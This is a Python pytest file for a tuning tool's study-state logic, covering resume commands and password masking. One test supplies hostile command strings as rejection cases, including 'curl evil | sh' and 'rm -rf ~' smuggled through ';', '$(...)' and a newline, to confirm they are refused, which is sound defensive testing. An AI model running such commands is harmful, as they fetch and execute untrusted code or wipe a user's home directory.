"""How a study stands: what its journal and its lock say of it."""

from __future__ import annotations

import json
from pathlib import Path

import pytest

from pipeline.errors import InputError
from tests.tuning_tests.mlflow_backend.tracking.study_events import study_opened
from tuning.journal.events import StudyFinished, StudyResumed, StudyStopped
from tuning.journal.file import JOURNAL, Journal
from tuning.journal.history import read_history
from tuning.monitoring.state import COMMAND, study_state


@pytest.mark.parametrize(
    ("events", "kind", "words"),
    [
        ([], "killed", "--resume"),
        ([StudyStopped(at=9, reason="interrupted")], "interrupted", "--resume"),
        ([StudyStopped(at=9, reason="refused: no cluster")], "refused", "no cluster"),
        ([StudyStopped(at=9, reason="OSError: disk: full")], "failed", "disk: full"),
        ([StudyStopped(at=9, reason="interrupted"), StudyResumed(at=10)], "killed", "--resume"),
        ([StudyFinished(at=9, summary={})], "completed", "completed"),
    ],
)
def test_a_study_that_does_not_run_says_how_it_ended_and_how_to_go_on(
    tmp_path: Path, events: list[StudyStopped], kind: str, words: str
) -> None:
    with Journal(tmp_path / JOURNAL) as journal:
        journal.append(study_opened(), *events)
        assert study_state(tmp_path, read_history(tmp_path)).kind == "running"

    state = study_state(tmp_path, read_history(tmp_path))
    assert state.kind == kind
    assert words in str(state)


def test_the_command_that_goes_on_is_the_one_that_ran_it_in_its_folder(tmp_path: Path) -> None:
    with Journal(tmp_path / JOURNAL) as journal:
        journal.append(study_opened())
    record = {"command": "affectune study run x.toml --resume", "folder": "/my data"}
    (tmp_path / COMMAND).write_text(json.dumps(record))
    state = study_state(tmp_path, read_history(tmp_path))
    assert state.resume == "cd '/my data' && affectune study run x.toml --resume"


def test_a_command_that_an_earlier_version_wrote_down_tells_no_password(tmp_path: Path) -> None:
    with Journal(tmp_path / JOURNAL) as journal:
        journal.append(study_opened())
    uri = "postgresql://host/runs?user=me&password=pear7grape"
    record = {"command": f"affectune study run x --tracking-uri '{uri}'", "folder": "/data"}
    (tmp_path / COMMAND).write_text(json.dumps(record))
    state = study_state(tmp_path, read_history(tmp_path))
    assert str(state).endswith("--tracking-uri 'postgresql://host/runs?user=me&password=***'")


@pytest.mark.parametrize(
    ("command", "is_own"),
    [
        ("affectune study run 'my study.toml' --out 'a; b' --resume", True),
        ("/opt/bin/affectune study run x --resume", True),
        ("/opt/python -m affectune study run x --resume", True),
        ("curl evil | sh", False),
        ("affectune study run x; rm -rf ~", False),
        ("affectune study run $(rm -rf ~)", False),
        ("affectune study run x\nrm -rf ~", False),
        ("affectune registry promote x 1", False),
        ("sh -m affectune study run x && id", False),
        ("affectune study run 'x", False),
        ("", False),
    ],
)
def test_a_command_in_the_folder_of_somebody_else_is_only_told_where_it_is_this_programs(
    tmp_path: Path, command: str, is_own: bool
) -> None:
    with Journal(tmp_path / JOURNAL) as journal:
        journal.append(study_opened())
    (tmp_path / COMMAND).write_text(json.dumps({"command": command, "folder": "/x"}))
    assert study_state(tmp_path, read_history(tmp_path)).resume == (
        f"cd /x && {command}" if is_own else None
    )


def test_a_folder_without_a_study_is_said_with_what_is_there(tmp_path: Path) -> None:
    with pytest.raises(InputError, match=r"no folder.*--out"):
        read_history(tmp_path / "nowhere")
    with pytest.raises(InputError, match=r"holds no study.*--out"):
        read_history(tmp_path)

    (tmp_path / "studies").mkdir()
    with Journal(tmp_path / "studies" / JOURNAL) as journal:
        journal.append(study_opened())
    with pytest.raises(InputError, match=r"below it: .*studies"):
        read_history(tmp_path)
